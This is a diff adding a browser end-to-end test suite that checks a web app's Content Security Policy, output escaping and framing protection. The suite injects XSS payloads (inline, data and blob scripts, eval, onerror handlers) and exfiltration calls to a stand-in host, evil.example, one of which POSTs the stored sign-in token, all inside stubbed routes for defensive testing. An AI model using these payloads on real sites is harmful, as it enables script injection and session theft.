@@ -1,0 +1,188 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { api } from '@vitrine/contract'
+import { Client } from '../apps/server/test/client.ts'
+import { addItem } from '../apps/server/test/inventory.ts'
+import { expect, type House, type Page, test } from './vitrine.ts'
+
+const evil = 'http://evil.example'
+
+const staffOf = async (house: House) =>
+  new Client(house.url, { token: JSON.parse(await house.signInInfo('root')).token })
+
+/** What somebody would try who got a few lines into a page. Each writes down that it ran. */
+const attempts = `
+  const ran = (what) => 'window.ran.push("' + what + '")'
+  const script = (fields) => document.body.append(Object.assign(document.createElement('script'), fields))
+  const markup = (html) => document.body.insertAdjacentHTML('beforeend', html)
+  const tried = (work) => { try { work() } catch {} }
+  window.ran.push('a script of our own')
+  script({ textContent: ran('an inline script') })
+  script({ src: '${evil}/script.js' })
+  script({ src: 'data:text/javascript,' + ran('a data script') })
+  script({ src: URL.createObjectURL(new Blob([ran('a blob script')])) })
+  markup("<img src='data:,' onerror='" + ran('an event handler') + "'>")
+  markup("<a id='trap' href='javascript:" + ran('a javascript link') + "'>Click</a>")
+  document.getElementById('trap').click()
+  markup("<iframe srcdoc='<script>parent." + ran('a frame').slice(7) + "</script>'></iframe>")
+  tried(() => eval(ran('eval')))
+  tried(() => new Function(ran('a made function'))())
+  setTimeout(ran('a timer'))
+  fetch('${evil}/fetched', { method: 'POST', mode: 'no-cors', body: localStorage.signInInfo }).catch(() => {})
+  new Image().src = '${evil}/picture'
+  navigator.sendBeacon('${evil}/beacon', 'x')
+  markup("<object data='${evil}/object'></object><iframe src='${evil}/frame'></iframe>")
+  markup("<form id='form' action='${evil}/form' method='post' target='hidden'><iframe name='hidden'></iframe></form>")
+  document.getElementById('form').submit()
+`
+
+const refusals = [
+  'connect-src http:/beacon',
+  'connect-src http:/fetched',
+  'form-action http:/form',
+  'frame-src http:',
+  'img-src http:/picture',
+  'object-src http:',
+  'script-src eval',
+  'script-src-attr inline',
+  'script-src-elem blob',
+  'script-src-elem data',
+  'script-src-elem http:/script.js',
+  'script-src-elem inline',
+]
+
+/** Puts the attempts into the open page as a script of our own site. */
+async function attack(page: Page) {
+  const left: string[] = []
+  await page.route(`${evil}/**`, (route) => {
+    left.push(new URL(route.request().url()).pathname)
+    return route.fulfill({ contentType: 'text/javascript', body: 'window.ran.push("a foreign script")' })
+  })
+  await page.route('**/probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: attempts }))
+  await page.evaluate(`
+    window.ran = []
+    window.refused = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      window.refused.push(effectiveDirective + ' ' + blockedURI.replace(/:.*example/, ':')))
+    new Promise((loaded) => document.body.append(
+      Object.assign(document.createElement('script'), { src: '/probe.js', onload: loaded })))
+  `)
+  return {
+    ran: async () => (await page.evaluate<string[]>('window.ran')).toSorted(),
+    refused: async () => [...new Set(await page.evaluate<string[]>('window.refused'))].toSorted(),
+    left: () => left.toSorted(),
+  }
+}
+
+const screens = [
+  { name: 'a screen of the staff', path: '/inventory/art', signedIn: true },
+  { name: 'the login', path: '/login', signedIn: false },
+  { name: 'a factsheet', path: '/car/1', signedIn: false },
+  { name: 'the save-the-date box', path: '/save-the-date', signedIn: false },
+]
+
+for (const { name, path, signedIn } of screens) {
+  test(`on ${name} nothing runs and nothing leaves but what is ours`, async ({ page, signInAs, expectFault }) => {
+    expectFault('Content Security Policy')
+    // The frames among the attempts have no storage, which the story's own way of signing in complains about.
+    expectFault('sessionStorage')
+    if (signedIn) await signInAs('employee')
+    await page.goto(path)
+    await expect(page.getByRole('heading').first()).toBeVisible()
+    const { ran, refused, left } = await attack(page)
+    await expect.poll(refused).toEqual(expect.arrayContaining(refusals))
+    expect(await ran()).toEqual(['a script of our own'])
+    expect(left()).toEqual([])
+  })
+}
+
+test.describe('without the policy', () => {
+  test.use({ bypassCSP: true })
+
+  test('all of that would run and leave', async ({ page }) => {
+    await page.goto('/car/1')
+    const { ran, left } = await attack(page)
+    await expect
+      .poll(ran)
+      .toEqual([
+        'a blob script',
+        'a data script',
+        'a foreign script',
+        'a frame',
+        'a javascript link',
+        'a made function',
+        'a script of our own',
+        'a timer',
+        'an event handler',
+        'an inline script',
+        'eval',
+      ])
+    await expect.poll(left).toEqual(['/beacon', '/fetched', '/form', '/frame', '/object', '/picture', '/script.js'])
+  })
+
+  const markup = `</script></style><script>window.hurt=1</script><img src="/x" onerror="window.hurt=2"><svg onload="window.hurt=3">`
+
+  test('markup in a text is shown on every screen of the staff, never run', async ({ page, house, signInAs }) => {
+    const staff = await staffOf(house)
+    const id = await addItem(staff, { name: markup, description: markup })
+    await staff.call(api.inventory.saveTags, { body: { itemId: id, tags: { artist: markup, technique: markup } } })
+    await staff.call(api.comments.add, { body: { itemId: id, comment: markup } })
+    const tag = await staff.call(api.journal.addTag, { body: { name: '<img src=/x onerror=window.hurt=4>' } })
+    await staff.call(api.journal.add, { body: { comment: markup, date: '2026-05-31', tags: [tag.id] } })
+    await staff.call(api.users.create, {
+      body: {
+        email: '',
+        gender: 'male',
+        firstName: markup.slice(0, 90),
+        lastName: markup.slice(33),
+        phone: '',
+        role: 'employee',
+      },
+    })
+    await signInAs('root')
+    const shown = [
+      '/inventory/art?filter=hurt',
+      `/inventory-detail/${id}`,
+      '/comments',
+      '/journal?filter=hurt',
+      '/employees',
+    ]
+    for (const path of shown) {
+      await page.goto(path)
+      await expect(page.getByText('onerror="window.hurt=2"').first(), path).toBeVisible()
+      expect(await page.evaluate('window.hurt'), path).toBeUndefined()
+    }
+  })
+})
+
+test('in a frame on a page of somebody else, ours stays empty', async ({ page, house, expectFault }) => {
+  expectFault('frame-ancestors')
+  // On this machine as well: a browser keeps pages from the net out of its machine for reasons of its own.
+  const site = createServer((request, response) => {
+    response.setHeader('content-type', 'text/html')
+    response.end(
+      request.url === '/harmless' ? 'harmless' : frames.map((src) => `<iframe src="${src}"></iframe>`).join(),
+    )
+  })
+  site.listen(0, '127.0.0.1')
+  await once(site, 'listening')
+  const { port } = site.address() as AddressInfo
+  const paths = [
+    '/',
+    '/login',
+    '/inventory/art',
+    '/set-password/x',
+    '/car/1',
+    '/art/1',
+    '/save-the-date',
+    '/api/health',
+  ]
+  const frames = [`http://localhost:${port}/harmless`, ...paths.map((path) => house.url + path)]
+
+  await page.goto(`http://127.0.0.1:${port}/`)
+  const shown = () => page.frames().map((frame) => frame.url())
+  const empty = 'chrome-error://chromewebdata/'
+  await expect.poll(shown).toEqual([page.url(), frames[0], ...paths.map(() => empty)])
+  site.close()
+})
